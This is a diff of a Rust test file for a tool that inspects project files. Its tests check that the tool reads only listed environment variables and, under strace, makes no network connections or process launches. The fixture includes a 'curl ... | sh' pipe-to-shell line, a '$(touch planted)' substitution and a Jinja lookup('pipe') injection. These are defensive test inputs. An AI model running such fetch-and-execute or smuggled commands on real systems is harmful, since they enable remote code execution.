@@ -9,8 +9,7 @@ use std::process::Command;
 use crate::common::Tree;
 
 /// The variables of the environment that the program reads; docs/security.md lists them. `--env NAME` adds what it names.
-const VARIABLES: [&str; 7] =
-    ["CLICOLOR", "CLICOLOR_FORCE", "COLUMNS", "GITHUB_ACTIONS", "HOME", "NO_COLOR", "TERM"];
+const VARIABLES: [&str; 7] = ["CLICOLOR", "CLICOLOR_FORCE", "COLUMNS", "GITHUB_ACTIONS", "HOME", "NO_COLOR", "TERM"];
 
 fn sources() -> Vec<(String, String)> {
     let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
@@ -40,7 +39,9 @@ fn only_variables_of_the_list_are_read() {
             match argument.strip_prefix('"') {
                 Some(name) => drop(read.insert(name.trim_end_matches('"').to_owned())),
                 // Those that the user names with `--env`, and two helpers.
-                None => assert!(["name", "&name"].contains(&argument), "{path}: a variable of another name: {argument}"),
+                None => {
+                    assert!(["name", "&name"].contains(&argument), "{path}: a variable of another name: {argument}")
+                }
             }
         }
         // The helpers.
@@ -89,9 +90,15 @@ fn the_system_sees_no_connection_and_no_other_program() {
         return;
     }
     let tree = Tree::new(&[
-        ("compose.yml", "include: ['https://example.com/x.git', 'oci://registry.example.com/y']\nservices:\n  a: {image: x:latest, build: 'https://example.com/z.git'}\n"),
+        (
+            "compose.yml",
+            "include: ['https://example.com/x.git', 'oci://registry.example.com/y']\nservices:\n  a: {image: x:latest, build: 'https://example.com/z.git'}\n",
+        ),
         ("deploy.sh", "#!/bin/sh\ncurl https://example.com/install.sh | sh\n$(touch planted)\n"),
-        ("templates/docker-compose.yml.j2", "services:\n  a:\n    image: '{{ lookup(\"pipe\", \"touch planted\") }}{{ lookup(\"url\", \"https://example.com\") }}'\n"),
+        (
+            "templates/docker-compose.yml.j2",
+            "services:\n  a:\n    image: '{{ lookup(\"pipe\", \"touch planted\") }}{{ lookup(\"url\", \"https://example.com\") }}'\n",
+        ),
     ]);
     let mut command = Command::new("strace");
     command.args(["-f", "-o", "trace", "-e", "trace=%network,execve,execveat,fork,vfork,kill", "--"]);
